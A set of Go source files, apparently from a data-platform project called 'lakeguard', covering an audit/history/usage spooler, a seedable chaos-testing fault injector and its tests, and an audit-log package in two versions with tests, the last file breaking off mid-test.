	s.updateLag()
	return firstErr
}

// updateLag publishes how many observations exist but are not yet durable:
// un-spooled audit events plus queued query records.
func (s *Spooler) updateLag() {
	var lag int64
	if s.audit != nil {
		s.mu.Lock()
		cursor := s.cursor
		s.mu.Unlock()
		lag += s.audit.Seq() - cursor
	}
	lag += int64(len(s.queries))
	s.mLag.Set(lag)
}

// flushAudit drains the audit ring from the cursor. The cursor only
// advances after the batch has durably committed, so a flush-site storage
// fault leaves the events in the ring for the next attempt; if the ring
// overwrites them first, EventsSince reports exactly how many were lost and
// the gap is recorded *in the audit table itself* as an AUDIT_GAP row — an
// event can be lost, but never silently.
func (s *Spooler) flushAudit() error {
	if s.audit == nil {
		return nil
	}
	for {
		s.mu.Lock()
		cursor := s.cursor
		s.mu.Unlock()
		events, next, lost := s.audit.EventsSince(cursor)
		if len(events) == 0 && lost == 0 {
			return nil
		}
		bb := types.NewBatchBuilder(auditSchema(), len(events)+1)
		if lost > 0 {
			bb.AppendRow([]types.Value{
				types.Timestamp(s.clock().UnixMicro()),
				types.String(catalog.SystemUser),
				types.String(""), types.String(""),
				types.String("AUDIT_GAP"),
				types.String(catalog.FullName(AuditTableParts)),
				types.String("GAP"),
				types.String(fmt.Sprintf("%d audit event(s) overwritten before spooling", lost)),
				types.String(""),
			})
		}
		n := len(events)
		if n > s.cfg.MaxBatch {
			n = s.cfg.MaxBatch
			// Recompute the cursor for the prefix we actually spool.
			next = next - int64(len(events)-n)
		}
		for _, e := range events[:n] {
			bb.AppendRow([]types.Value{
				types.Timestamp(e.Time.UnixMicro()),
				types.String(e.User),
				types.String(e.Compute),
				types.String(e.SessionID),
				types.String(e.Action),
				types.String(e.Securable),
				types.String(string(e.Decision)),
				types.String(e.Reason),
				types.String(e.TraceID),
			})
		}
		rows := bb.Len()
		if _, err := s.cat.AppendSystemTable(AuditTableParts, []*types.Batch{bb.Build()}); err != nil {
			return fmt.Errorf("systemtables: spool audit: %w", err)
		}
		s.mu.Lock()
		s.cursor = next
		s.mu.Unlock()
		// Losses are counted exactly once, at the same point the cursor
		// advances past them: a failed append leaves both untouched, so a
		// retried flush re-reports the same gap without double counting.
		s.mAuditLost.Add(lost)
		s.mSpooled.Add(int64(rows))
		if n == len(events) {
			return nil
		}
	}
}

// flushQueries drains the bounded query queue into query.history.
func (s *Spooler) flushQueries() error {
	for {
		bb := types.NewBatchBuilder(historySchema(), s.cfg.MaxBatch)
		var recs []QueryRecord
	drain:
		for bb.Len() < s.cfg.MaxBatch {
			select {
			case rec := <-s.queries:
				bb.AppendRow(rec.row())
				recs = append(recs, rec)
			default:
				break drain
			}
		}
		if bb.Len() == 0 {
			return nil
		}
		rows := bb.Len()
		if _, err := s.cat.AppendSystemTable(HistoryTableParts, []*types.Batch{bb.Build()}); err != nil {
			// Requeue what fits so a transient storage fault doesn't lose
			// records; overflow is counted dropped like any backpressure.
			for _, rec := range recs {
				select {
				case s.queries <- rec:
				default:
					s.mDropped.Inc()
				}
			}
			return fmt.Errorf("systemtables: spool history: %w", err)
		}
		s.mSpooled.Add(int64(rows))
		// Usage rollup derives from the records that actually spooled.
		s.mu.Lock()
		for _, rec := range recs {
			a := s.usageFor(rec.Time, rec.Tenant)
			a.queries++
			if rec.Status != "OK" {
				a.errors++
			}
			a.rowsOut += rec.RowsOut
			a.bytesGet += rec.BytesRead
			a.queueWaitNanos += rec.QueueWaitNanos
		}
		s.mu.Unlock()
		if rows < s.cfg.MaxBatch {
			return nil
		}
	}
}

// flushUsage commits closed rollup windows (all windows when final).
func (s *Spooler) flushUsage(final bool) error {
	now := s.clock()
	currentWindow := now.Truncate(s.cfg.UsageWindow).UnixMicro()
	s.mu.Lock()
	type row struct {
		window int64
		tenant string
		agg    usageAgg
	}
	var rows []row
	for w, byTenant := range s.usage {
		if !final && w >= currentWindow {
			continue
		}
		for tenant, a := range byTenant {
			rows = append(rows, row{w, tenant, *a})
		}
		delete(s.usage, w)
	}
	s.mu.Unlock()
	if len(rows) == 0 {
		return nil
	}
	bb := types.NewBatchBuilder(usageSchema(), len(rows))
	for _, r := range rows {
		bb.AppendRow([]types.Value{
			types.Timestamp(r.window),
			types.String(r.tenant),
			types.Int64(r.agg.queries),
			types.Int64(r.agg.errors),
			types.Int64(r.agg.rowsOut),
			types.Int64(r.agg.bytesGet),
			types.Int64(r.agg.sheds),
			types.Float64(nanosToMS(r.agg.queueWaitNanos)),
		})
	}
	if _, err := s.cat.AppendSystemTable(UsageTableParts, []*types.Batch{bb.Build()}); err != nil {
		// Re-merge so the aggregates survive a transient fault.
		s.mu.Lock()
		for _, r := range rows {
			a := s.usageFor(time.UnixMicro(r.window), r.tenant)
			a.queries += r.agg.queries
			a.errors += r.agg.errors
			a.rowsOut += r.agg.rowsOut
			a.bytesGet += r.agg.bytesGet
			a.sheds += r.agg.sheds
			a.queueWaitNanos += r.agg.queueWaitNanos
		}
		s.mu.Unlock()
		return fmt.Errorf("systemtables: spool usage: %w", err)
	}
	s.mSpooled.Add(int64(len(rows)))
	return nil
}

// SweepRetention removes system-table data files wholly older than the
// configured retention, using each table's per-file statistics. Returns the
// number of files truncated.
func (s *Spooler) SweepRetention() (int, error) {
	if s.cfg.Retention <= 0 {
		return 0, nil
	}
	cutoff := s.clock().Add(-s.cfg.Retention)
	total := 0
	for _, t := range []struct {
		parts   []string
		timeCol string
	}{
		{AuditTableParts, "event_time"},
		{HistoryTableParts, "end_time"},
		{UsageTableParts, "window_start"},
	} {
		n, err := s.cat.TruncateSystemTableBefore(t.parts, t.timeCol, cutoff)
		if err != nil {
			return total, err
		}
		total += n
	}
	s.mRetention.Add(int64(total))
	return total, nil
}

// Maintain compacts and vacuums the system tables. The spooler's small
// frequent flushes make these the highest-churn tables in the deployment:
// without background OPTIMIZE every flush is one more small file for every
// audit/history/usage scan, and without VACUUM retention-tombstoned files
// accumulate as dead storage. Runs on the retention cadence; errors are
// counted, not fatal (maintenance must never take down observability).
func (s *Spooler) Maintain() error {
	var firstErr error
	for _, parts := range [][]string{AuditTableParts, HistoryTableParts, UsageTableParts} {
		stats, _, err := s.cat.MaintainSystemTable(parts)
		if err != nil {
			s.mFlushErrors.Inc()
			if firstErr == nil {
				firstErr = err
			}
			continue
		}
		s.mMaintained.Add(int64(stats.FilesIn))
	}
	return firstErr
}
