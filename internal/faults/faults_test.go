package faults

import (
	"context"
	"errors"
	"testing"
	"time"
)

func TestNilInjectorIsInert(t *testing.T) {
	var inj *Injector
	if _, ok := inj.Eval("x"); ok {
		t.Fatal("nil injector fired")
	}
	if err := inj.Check("x"); err != nil {
		t.Fatal(err)
	}
	if inj.StorageHook() != nil {
		t.Fatal("nil injector should produce a nil storage hook")
	}
	if inj.Hits("x") != 0 || inj.Fired("x") != 0 || inj.Seed() != 0 {
		t.Fatal("nil injector counters should be zero")
	}
}

func TestSequenceSchedule(t *testing.T) {
	inj := New(1).Add(
		Rule{Site: "s", Kind: KindCrash, Times: 2},
		Rule{Site: "s", Kind: KindError, Skip: 3, Times: 1},
	)
	var kinds []string
	for hit := 0; hit < 5; hit++ {
		if f, ok := inj.Eval("s"); ok {
			kinds = append(kinds, f.Kind.String())
		} else {
			kinds = append(kinds, "none")
		}
	}
	want := []string{"crash", "crash", "none", "error", "none"}
	for i := range want {
		if kinds[i] != want[i] {
			t.Fatalf("hit %d: got %s, want %s (all: %v)", i+1, kinds[i], want[i], kinds)
		}
	}
	if inj.Hits("s") != 5 || inj.Fired("s") != 3 {
		t.Fatalf("hits=%d fired=%d, want 5/3", inj.Hits("s"), inj.Fired("s"))
	}
}

func TestProbabilityIsDeterministicPerSeed(t *testing.T) {
	run := func(seed int64) []bool {
		inj := New(seed).Add(Rule{Site: "s", Kind: KindError, Prob: 0.5})
		out := make([]bool, 64)
		for i := range out {
			_, out[i] = inj.Eval("s")
		}
		return out
	}
	a, b := run(42), run(42)
	fired := 0
	for i := range a {
		if a[i] != b[i] {
			t.Fatalf("same seed diverged at hit %d", i)
		}
		if a[i] {
			fired++
		}
	}
	if fired == 0 || fired == len(a) {
		t.Fatalf("prob 0.5 fired %d/%d times; schedule is not probabilistic", fired, len(a))
	}
}

func TestCheckErrorIsTransient(t *testing.T) {
	inj := New(1).Add(Rule{Site: "s", Kind: KindError, Times: 1})
	err := inj.Check("s")
	if !IsTransient(err) {
		t.Fatalf("injected error %v should be transient", err)
	}
	if err := inj.Check("s"); err != nil {
		t.Fatalf("rule exhausted but Check returned %v", err)
	}
	if IsTransient(errors.New("real failure")) {
		t.Fatal("ordinary errors must not look transient")
	}
}

func TestCheckContextCancelsSleep(t *testing.T) {
	inj := New(1).Add(Rule{Site: "s", Kind: KindSleep, Delay: time.Minute})
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	start := time.Now()
	err := inj.CheckContext(ctx, "s")
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("got %v, want context.Canceled", err)
	}
	if time.Since(start) > 5*time.Second {
		t.Fatal("cancelled sleep blocked")
	}
}

func TestStorageHookMapsOps(t *testing.T) {
	inj := New(1).Add(Rule{Site: "storage.get", Kind: KindError, Times: 1})
	hook := inj.StorageHook()
	if err := hook("put", "p"); err != nil {
		t.Fatalf("put should be clean: %v", err)
	}
	if err := hook("get", "p"); !IsTransient(err) {
		t.Fatalf("get should fail transiently, got %v", err)
	}
}

func TestParseSpec(t *testing.T) {
	rules, err := Parse("sandbox.interpret:crash*2; efgac.remote:error%0.25@1 ;storage.get:sleep~15ms")
	if err != nil {
		t.Fatal(err)
	}
	if len(rules) != 3 {
		t.Fatalf("got %d rules", len(rules))
	}
	if r := rules[0]; r.Site != SiteSandboxInterpret || r.Kind != KindCrash || r.Times != 2 {
		t.Fatalf("rule 0: %+v", r)
	}
	if r := rules[1]; r.Site != SiteEFGACRemote || r.Kind != KindError || r.Prob != 0.25 || r.Skip != 1 {
		t.Fatalf("rule 1: %+v", r)
	}
	if r := rules[2]; r.Site != "storage.get" || r.Kind != KindSleep || r.Delay != 15*time.Millisecond {
		t.Fatalf("rule 2: %+v", r)
	}
}

func TestParseRejectsGarbage(t *testing.T) {
	for _, spec := range []string{"nosite", "s:explode", "s:crash*many", ":crash"} {
		if _, err := Parse(spec); err == nil {
			t.Fatalf("spec %q parsed without error", spec)
		}
	}
}

func TestFromEnv(t *testing.T) {
	t.Setenv("FAULTS", "sandbox.interpret:crash*1")
	t.Setenv("FAULTS_SEED", "7")
	inj, err := FromEnv()
	if err != nil {
		t.Fatal(err)
	}
	if inj == nil || inj.Seed() != 7 {
		t.Fatalf("injector %+v, want seed 7", inj)
	}
	if f, ok := inj.Eval(SiteSandboxInterpret); !ok || f.Kind != KindCrash {
		t.Fatal("env rule did not fire")
	}
	t.Setenv("FAULTS", "")
	inj, err = FromEnv()
	if err != nil || inj != nil {
		t.Fatalf("unset FAULTS should yield nil injector (got %v, %v)", inj, err)
	}
}
