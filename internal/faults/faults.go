// Package faults is a deterministic, seedable fault injector for chaos
// testing the failure-domain layer (paper §3.3: a misbehaving UDF may burn
// its own sandbox but must never take down the engine). Production code
// declares named *sites* — points where a container could crash, hang, or an
// RPC could fail transiently — and tests (or the FAULTS environment
// variable) attach rules that fire deterministically under a fixed seed.
//
// A nil *Injector is valid everywhere and injects nothing, so production
// paths carry fault sites at zero configuration cost.
//
// Well-known sites:
//
//	sandbox.interpret   user code inside the interpreter loop (crash/hang/sleep/error)
//	sandbox.coldstart   sandbox provisioning (sleep/error)
//	cluster.provision   cluster-manager placement (error/sleep)
//	efgac.remote        eFGAC remote subquery submission (error/sleep)
//	storage.<op>        object-store operations via Injector.StorageHook
package faults

import (
	"context"
	"errors"
	"fmt"
	"math/rand"
	"os"
	"strconv"
	"strings"
	"sync"
	"time"
)

// Well-known fault sites (see package comment).
const (
	SiteSandboxInterpret = "sandbox.interpret"
	SiteSandboxColdStart = "sandbox.coldstart"
	SiteClusterProvision = "cluster.provision"
	SiteEFGACRemote      = "efgac.remote"
	SiteGatewayRoute     = "gateway.route"
	SiteAdmissionEnqueue = "admission.enqueue"
)

// Kind classifies what an injected fault does at its site.
type Kind int

// Fault kinds.
const (
	// KindError makes the site return a transient error (wrapping
	// ErrInjected, so retry layers can detect it via IsTransient).
	KindError Kind = iota
	// KindCrash panics inside the site — the analog of a container dying.
	KindCrash
	// KindHang blocks the site until its surrounding teardown signal fires —
	// the analog of wedged user code that fuel metering cannot catch.
	KindHang
	// KindSleep delays the site by Rule.Delay, then proceeds normally.
	KindSleep
)

// String names the kind for diagnostics and spec parsing.
func (k Kind) String() string {
	switch k {
	case KindError:
		return "error"
	case KindCrash:
		return "crash"
	case KindHang:
		return "hang"
	case KindSleep:
		return "sleep"
	}
	return fmt.Sprintf("kind(%d)", int(k))
}

// ErrInjected is the sentinel all injected errors wrap.
var ErrInjected = errors.New("faults: injected")

// InjectedError is the structured error carried by every fired fault. It
// wraps ErrInjected (so IsTransient keeps working) and preserves the
// injection site so telemetry spans can attribute a failure to its fault
// site even after the error crossed goroutine, panic, or retry boundaries.
type InjectedError struct {
	Site string
	Kind Kind
	Hit  int64
	Seed int64
}

func (e *InjectedError) Error() string {
	return fmt.Sprintf("%v: %s at %s (hit %d, seed %d)", ErrInjected, e.Kind, e.Site, e.Hit, e.Seed)
}

func (e *InjectedError) Unwrap() error { return ErrInjected }

// SiteOf returns the injection site recorded in err's chain, or "" when err
// is nil or not an injected fault.
func SiteOf(err error) string {
	var ie *InjectedError
	if errors.As(err, &ie) {
		return ie.Site
	}
	return ""
}

// IsTransient reports whether err is (or wraps) an injected transient fault,
// i.e. one a retry layer should re-attempt.
func IsTransient(err error) bool { return errors.Is(err, ErrInjected) }

// Rule schedules faults at one site. Zero-value scheduling fields mean
// "always": a Rule{Site: s, Kind: KindCrash} crashes every hit of s.
type Rule struct {
	// Site names the injection point.
	Site string
	// Kind selects the failure mode.
	Kind Kind
	// Prob fires the rule with this probability per eligible hit, drawn from
	// the injector's seeded generator (0 = fire on every eligible hit).
	Prob float64
	// Skip exempts the first Skip hits of the site (sequence schedules:
	// "fail the third provisioning attempt").
	Skip int
	// Times caps how often the rule fires (0 = unlimited).
	Times int
	// Delay is the sleep duration for KindSleep.
	Delay time.Duration
}

// Fault is one fired injection.
type Fault struct {
	Site  string
	Kind  Kind
	Delay time.Duration
	// Err is the transient error to surface for KindError (it wraps
	// ErrInjected) and the panic value for KindCrash.
	Err error
}

type scheduledRule struct {
	Rule
	fired int
}

// Injector evaluates fault rules deterministically under a fixed seed. All
// methods are safe for concurrent use and safe on a nil receiver.
type Injector struct {
	mu    sync.Mutex
	seed  int64
	rng   *rand.Rand
	rules []*scheduledRule
	hits  map[string]int64
	fired map[string]int64
}

// New creates an injector whose probabilistic decisions replay identically
// for the same seed and evaluation order.
func New(seed int64) *Injector {
	return &Injector{
		seed:  seed,
		rng:   rand.New(rand.NewSource(seed)),
		hits:  map[string]int64{},
		fired: map[string]int64{},
	}
}

// Seed returns the injector's seed (0 for a nil injector).
func (i *Injector) Seed() int64 {
	if i == nil {
		return 0
	}
	return i.seed
}

// Add installs rules. Rules are evaluated in installation order; the first
// eligible rule per hit wins.
func (i *Injector) Add(rules ...Rule) *Injector {
	i.mu.Lock()
	defer i.mu.Unlock()
	for _, r := range rules {
		r := r
		i.rules = append(i.rules, &scheduledRule{Rule: r})
	}
	return i
}

// Eval records one hit of the site and reports whether a fault fires there.
// Sites that model in-band failure modes (crash, hang) call Eval directly
// and act on the returned Kind; error/sleep-only sites use Check.
func (i *Injector) Eval(site string) (Fault, bool) {
	if i == nil {
		return Fault{}, false
	}
	i.mu.Lock()
	defer i.mu.Unlock()
	n := i.hits[site]
	i.hits[site] = n + 1
	for _, r := range i.rules {
		if r.Site != site {
			continue
		}
		if n < int64(r.Skip) {
			continue
		}
		if r.Times > 0 && r.fired >= r.Times {
			continue
		}
		if r.Prob > 0 && r.Prob < 1 && i.rng.Float64() >= r.Prob {
			continue
		}
		r.fired++
		i.fired[site]++
		return Fault{
			Site:  site,
			Kind:  r.Kind,
			Delay: r.Delay,
			Err:   &InjectedError{Site: site, Kind: r.Kind, Hit: n + 1, Seed: i.seed},
		}, true
	}
	return Fault{}, false
}

// Check evaluates a site that supports only error and sleep faults: KindError
// returns the transient error, KindSleep sleeps then returns nil, and other
// kinds degrade to the transient error so no configured fault silently
// no-ops. Safe on a nil injector (always nil).
func (i *Injector) Check(site string) error {
	return i.CheckContext(context.Background(), site)
}

// CheckContext is Check with a cancellable sleep.
func (i *Injector) CheckContext(ctx context.Context, site string) error {
	f, ok := i.Eval(site)
	if !ok {
		return nil
	}
	if f.Kind == KindSleep {
		t := time.NewTimer(f.Delay)
		defer t.Stop()
		select {
		case <-t.C:
			return nil
		case <-ctx.Done():
			return ctx.Err()
		}
	}
	return f.Err
}

// StorageHook adapts the injector to storage.Store.SetFault without this
// package importing storage: operations map to sites "storage.<op>"
// (storage.get, storage.put, storage.delete, storage.list).
func (i *Injector) StorageHook() func(op, path string) error {
	if i == nil {
		return nil
	}
	return func(op, path string) error {
		return i.Check("storage." + op)
	}
}

// Hits reports how many times a site was evaluated.
func (i *Injector) Hits(site string) int64 {
	if i == nil {
		return 0
	}
	i.mu.Lock()
	defer i.mu.Unlock()
	return i.hits[site]
}

// Fired reports how many faults actually fired at a site.
func (i *Injector) Fired(site string) int64 {
	if i == nil {
		return 0
	}
	i.mu.Lock()
	defer i.mu.Unlock()
	return i.fired[site]
}

// Parse decodes a FAULTS spec: semicolon-separated clauses of the form
//
//	site:kind[*times][@skip][%prob][~delay]
//
// e.g. "sandbox.interpret:crash*2;efgac.remote:error%0.5;storage.get:sleep~10ms".
func Parse(spec string) ([]Rule, error) {
	var rules []Rule
	for _, clause := range strings.Split(spec, ";") {
		clause = strings.TrimSpace(clause)
		if clause == "" {
			continue
		}
		site, rest, ok := strings.Cut(clause, ":")
		if !ok || site == "" {
			return nil, fmt.Errorf("faults: clause %q: want site:kind[...]", clause)
		}
		r := Rule{Site: site}
		// Split off modifiers; the kind name is the leading token.
		kindEnd := strings.IndexAny(rest, "*@%~")
		kindName := rest
		mods := ""
		if kindEnd >= 0 {
			kindName, mods = rest[:kindEnd], rest[kindEnd:]
		}
		switch kindName {
		case "error":
			r.Kind = KindError
		case "crash":
			r.Kind = KindCrash
		case "hang":
			r.Kind = KindHang
		case "sleep":
			r.Kind = KindSleep
		default:
			return nil, fmt.Errorf("faults: clause %q: unknown kind %q", clause, kindName)
		}
		for mods != "" {
			op := mods[0]
			valEnd := strings.IndexAny(mods[1:], "*@%~")
			var val string
			if valEnd >= 0 {
				val, mods = mods[1:1+valEnd], mods[1+valEnd:]
			} else {
				val, mods = mods[1:], ""
			}
			var err error
			switch op {
			case '*':
				r.Times, err = strconv.Atoi(val)
			case '@':
				r.Skip, err = strconv.Atoi(val)
			case '%':
				r.Prob, err = strconv.ParseFloat(val, 64)
			case '~':
				r.Delay, err = time.ParseDuration(val)
			}
			if err != nil {
				return nil, fmt.Errorf("faults: clause %q: modifier %c%s: %w", clause, op, val, err)
			}
		}
		rules = append(rules, r)
	}
	return rules, nil
}

// FromEnv builds an injector from the FAULTS environment variable (nil when
// unset), seeded by FAULTS_SEED (default 1). Chaos CI sets both.
func FromEnv() (*Injector, error) {
	spec := os.Getenv("FAULTS")
	if spec == "" {
		return nil, nil
	}
	rules, err := Parse(spec)
	if err != nil {
		return nil, err
	}
	return New(SeedFromEnv(1)).Add(rules...), nil
}

// SeedFromEnv returns FAULTS_SEED as an integer, or def when unset/invalid.
func SeedFromEnv(def int64) int64 {
	if v := os.Getenv("FAULTS_SEED"); v != "" {
		if n, err := strconv.ParseInt(v, 10, 64); err == nil {
			return n
		}
	}
	return def
}
