// Package audit records every authorization decision and credential vend in
// the platform, attributed to the requesting user, compute, and session —
// the "full auditing of all individual user actions" the paper attributes to
// the Connect/Unity-Catalog integration.
package audit

import (
	"fmt"
	"sync"
	"time"

	"lakeguard/internal/telemetry"
)

// Decision is the outcome of an audited action.
type Decision string

// Decisions.
const (
	DecisionAllow Decision = "ALLOW"
	DecisionDeny  Decision = "DENY"
)

// Event is one audit record.
type Event struct {
	Time      time.Time
	User      string
	Compute   string // compute type or cluster id
	SessionID string
	Action    string // e.g. "SELECT", "VEND_CREDENTIAL", "GRANT"
	Securable string // fully qualified object name
	Decision  Decision
	Reason    string
	// TraceID joins the event to the query's telemetry span tree (empty for
	// actions performed outside a traced request).
	TraceID string
}

// String renders the event as a single log line.
func (e Event) String() string {
	return fmt.Sprintf("%s user=%s compute=%s session=%s action=%s securable=%s decision=%s reason=%q",
		e.Time.UTC().Format(time.RFC3339), e.User, e.Compute, e.SessionID, e.Action, e.Securable, e.Decision, e.Reason)
}

// DefaultCapacity is the default ring-buffer bound: generous enough that no
// test or interactive session wraps, small enough that a long-lived server
// cannot grow without bound.
const DefaultCapacity = 65536

// Log is a bounded audit log, safe for concurrent use. It retains the most
// recent Capacity events in a ring buffer (0 = unlimited); overwritten
// events are counted as dropped and surfaced as the audit.dropped metric.
type Log struct {
	mu      sync.RWMutex
	events  []Event // ring storage; oldest at index start once full
	start   int
	cap     int
	dropped int64
	// seq counts every event ever recorded (monotonic, never reset). The
	// oldest retained event therefore has sequence seq-len(events), which is
	// what lets EventsSince report exactly how many events a slow consumer
	// lost to ring overwrites instead of silently skipping them.
	seq    int64
	metric *telemetry.Counter
	clock  func() time.Time
}

// NewLog creates an empty audit log bounded at DefaultCapacity.
func NewLog() *Log { return &Log{clock: time.Now, cap: DefaultCapacity} }

// SetClock overrides the time source (tests).
func (l *Log) SetClock(clock func() time.Time) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.clock = clock
}

// SetCapacity bounds the log to the most recent n events (0 = unlimited).
// Shrinking below the current size drops the oldest events immediately.
func (l *Log) SetCapacity(n int) {
	l.mu.Lock()
	defer l.mu.Unlock()
	if n < 0 {
		n = 0
	}
	events := l.snapshotLocked()
	if n > 0 && len(events) > n {
		over := len(events) - n
		events = events[over:]
		l.dropped += int64(over)
		l.metric.Add(int64(over))
	}
	l.events = events
	l.start = 0
	l.cap = n
}

// SetMetrics exposes the dropped-event count on a registry as the
// audit.dropped counter.
func (l *Log) SetMetrics(m *telemetry.Registry) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.metric = m.Counter("audit.dropped")
	l.metric.Add(l.dropped)
}

// Dropped returns how many events the ring has overwritten.
func (l *Log) Dropped() int64 {
	l.mu.RLock()
	defer l.mu.RUnlock()
	return l.dropped
}

// Record appends an event, stamping the time. When the ring is full the
// oldest event is overwritten and counted as dropped.
func (l *Log) Record(e Event) {
	l.mu.Lock()
	defer l.mu.Unlock()
	e.Time = l.clock()
	l.seq++
	if l.cap == 0 || len(l.events) < l.cap {
		l.events = append(l.events, e)
		return
	}
	l.events[l.start] = e
	l.start = (l.start + 1) % l.cap
	l.dropped++
	l.metric.Inc()
}

// Seq returns the total number of events ever recorded. The next event gets
// sequence Seq()+1; EventsSince(Seq()) returns nothing until then.
func (l *Log) Seq() int64 {
	l.mu.RLock()
	defer l.mu.RUnlock()
	return l.seq
}

// EventsSince returns every retained event recorded after cursor position
// `from` (a value previously returned as next, or 0 for "from the
// beginning"), the new cursor position, and how many events in (from, next]
// were overwritten before they could be read. A consumer that drains with
// EventsSince and persists before advancing its cursor can prove it never
// both lost an event to the ring and failed to notice: lost is exact, not
// a global counter shared with other consumers.
func (l *Log) EventsSince(from int64) (events []Event, next int64, lost int64) {
	l.mu.RLock()
	defer l.mu.RUnlock()
	next = l.seq
	if from >= next {
		return nil, next, 0
	}
	firstRetained := l.seq - int64(len(l.events))
	if from < firstRetained {
		lost = firstRetained - from
		from = firstRetained
	}
	all := l.snapshotLocked()
	// all[i] has sequence firstRetained+1+i; skip to the first event after from.
	skip := from - firstRetained
	events = all[skip:]
	return events, next, lost
}

// snapshotLocked returns retained events oldest-first. Callers hold l.mu.
func (l *Log) snapshotLocked() []Event {
	out := make([]Event, 0, len(l.events))
	out = append(out, l.events[l.start:]...)
	out = append(out, l.events[:l.start]...)
	return out
}

// Events returns a copy of all retained events (oldest first), optionally
// filtered.
func (l *Log) Events(filter func(Event) bool) []Event {
	l.mu.RLock()
	defer l.mu.RUnlock()
	var out []Event
	for _, e := range l.snapshotLocked() {
		if filter == nil || filter(e) {
			out = append(out, e)
		}
	}
	return out
}

// Count returns the number of retained events matching the filter.
func (l *Log) Count(filter func(Event) bool) int {
	l.mu.RLock()
	defer l.mu.RUnlock()
	n := 0
	for _, e := range l.snapshotLocked() {
		if filter == nil || filter(e) {
			n++
		}
	}
	return n
}

// ByUser returns events attributed to one user.
func (l *Log) ByUser(user string) []Event {
	return l.Events(func(e Event) bool { return e.User == user })
}

// Denials returns all DENY events.
func (l *Log) Denials() []Event {
	return l.Events(func(e Event) bool { return e.Decision == DecisionDeny })
}

// ByTrace returns events stamped with the given telemetry trace ID.
func (l *Log) ByTrace(traceID string) []Event {
	return l.Events(func(e Event) bool { return e.TraceID == traceID })
}
