// Package audit records every authorization decision and credential vend in
// the platform, attributed to the requesting user, compute, and session —
// the "full auditing of all individual user actions" the paper attributes to
// the Connect/Unity-Catalog integration.
package audit

import (
	"fmt"
	"sync"
	"time"
)

// Decision is the outcome of an audited action.
type Decision string

// Decisions.
const (
	DecisionAllow Decision = "ALLOW"
	DecisionDeny  Decision = "DENY"
)

// Event is one audit record.
type Event struct {
	Time      time.Time
	User      string
	Compute   string // compute type or cluster id
	SessionID string
	Action    string // e.g. "SELECT", "VEND_CREDENTIAL", "GRANT"
	Securable string // fully qualified object name
	Decision  Decision
	Reason    string
}

// String renders the event as a single log line.
func (e Event) String() string {
	return fmt.Sprintf("%s user=%s compute=%s session=%s action=%s securable=%s decision=%s reason=%q",
		e.Time.UTC().Format(time.RFC3339), e.User, e.Compute, e.SessionID, e.Action, e.Securable, e.Decision, e.Reason)
}

// Log is an append-only audit log, safe for concurrent use.
type Log struct {
	mu     sync.RWMutex
	events []Event
	clock  func() time.Time
}

// NewLog creates an empty audit log.
func NewLog() *Log { return &Log{clock: time.Now} }

// SetClock overrides the time source (tests).
func (l *Log) SetClock(clock func() time.Time) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.clock = clock
}

// Record appends an event, stamping the time.
func (l *Log) Record(e Event) {
	l.mu.Lock()
	defer l.mu.Unlock()
	e.Time = l.clock()
	l.events = append(l.events, e)
}

// Events returns a copy of all events, optionally filtered.
func (l *Log) Events(filter func(Event) bool) []Event {
	l.mu.RLock()
	defer l.mu.RUnlock()
	var out []Event
	for _, e := range l.events {
		if filter == nil || filter(e) {
			out = append(out, e)
		}
	}
	return out
}

// Count returns the number of events matching the filter.
func (l *Log) Count(filter func(Event) bool) int {
	l.mu.RLock()
	defer l.mu.RUnlock()
	n := 0
	for _, e := range l.events {
		if filter == nil || filter(e) {
			n++
		}
	}
	return n
}

// ByUser returns events attributed to one user.
func (l *Log) ByUser(user string) []Event {
	return l.Events(func(e Event) bool { return e.User == user })
}

// Denials returns all DENY events.
func (l *Log) Denials() []Event {
	return l.Events(func(e Event) bool { return e.Decision == DecisionDeny })
}
