package audit

import (
	"strings"
	"sync"
	"testing"
	"time"

	"lakeguard/internal/telemetry"
)

func TestRecordAndFilter(t *testing.T) {
	l := NewLog()
	now := time.Unix(1000, 0)
	l.SetClock(func() time.Time { return now })
	l.Record(Event{User: "alice", Action: "SELECT", Securable: "t1", Decision: DecisionAllow})
	now = now.Add(time.Second)
	l.Record(Event{User: "bob", Action: "SELECT", Securable: "t1", Decision: DecisionDeny, Reason: "missing SELECT"})
	l.Record(Event{User: "alice", Action: "GRANT", Securable: "t2", Decision: DecisionAllow})

	if n := l.Count(nil); n != 3 {
		t.Fatalf("count = %d", n)
	}
	if got := len(l.ByUser("alice")); got != 2 {
		t.Errorf("alice events = %d", got)
	}
	denials := l.Denials()
	if len(denials) != 1 || denials[0].User != "bob" {
		t.Errorf("denials = %v", denials)
	}
	// Timestamps are stamped by the log, not the caller.
	events := l.Events(nil)
	if !events[0].Time.Equal(time.Unix(1000, 0)) || !events[1].Time.Equal(time.Unix(1001, 0)) {
		t.Error("clock stamping wrong")
	}
}

func TestEventString(t *testing.T) {
	e := Event{
		Time: time.Unix(0, 0), User: "alice", Compute: "STANDARD", SessionID: "s1",
		Action: "VEND_CREDENTIAL", Securable: "main.default.t", Decision: DecisionDeny, Reason: "requires eFGAC",
	}
	s := e.String()
	for _, want := range []string{"user=alice", "compute=STANDARD", "session=s1", "action=VEND_CREDENTIAL", "decision=DENY", `reason="requires eFGAC"`} {
		if !strings.Contains(s, want) {
			t.Errorf("event string missing %q: %s", want, s)
		}
	}
}

func TestEventsReturnsCopy(t *testing.T) {
	l := NewLog()
	l.Record(Event{User: "alice"})
	events := l.Events(nil)
	events[0].User = "mallory"
	if l.Events(nil)[0].User != "alice" {
		t.Error("Events aliased internal storage")
	}
}

func TestConcurrentRecording(t *testing.T) {
	l := NewLog()
	var wg sync.WaitGroup
	for i := 0; i < 16; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < 100; j++ {
				l.Record(Event{User: "u", Decision: DecisionAllow})
				_ = l.Count(nil)
			}
		}()
	}
	wg.Wait()
	if n := l.Count(nil); n != 1600 {
		t.Errorf("count = %d", n)
	}
}

func TestRingWrapAround(t *testing.T) {
	l := NewLog()
	l.SetCapacity(4)
	for i := 0; i < 10; i++ {
		l.Record(Event{User: "u", Securable: string(rune('a' + i))})
	}
	events := l.Events(nil)
	if len(events) != 4 {
		t.Fatalf("retained = %d, want 4", len(events))
	}
	// Oldest-first order preserved across the wrap: g, h, i, j.
	for i, want := range []string{"g", "h", "i", "j"} {
		if events[i].Securable != want {
